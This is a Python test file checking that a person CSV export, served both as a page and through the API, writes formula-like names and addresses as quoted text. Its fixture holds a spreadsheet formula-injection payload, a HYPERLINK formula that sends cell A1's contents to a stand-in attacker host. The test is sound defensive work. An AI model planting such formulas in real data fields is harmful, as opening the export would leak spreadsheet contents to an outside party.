"""The person export (page and API) writes a name typed as a formula as text."""

from tests.conftest import login

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def rows(response) -> list[str]:
    return b"".join(response.streaming_content).decode("utf-8-sig").splitlines()


def test_a_name_typed_as_a_formula_is_exported_as_text(gaocheng_epi, gaocheng_person):
    gaocheng_person.name = FORMULA
    gaocheng_person.address = "@SUM(1,2)"
    gaocheng_person.save()
    client = login(gaocheng_epi)
    for path in ("/persons/export.csv", "/api/v1/persons/export.csv"):
        (line,) = [r for r in rows(client.get(path)) if "HYPERLINK" in r]
        assert line.startswith("\"'=HYPERLINK(")
        assert ",'@SUM(1,2)," in line or ',"\'@SUM(1,2)",' in line
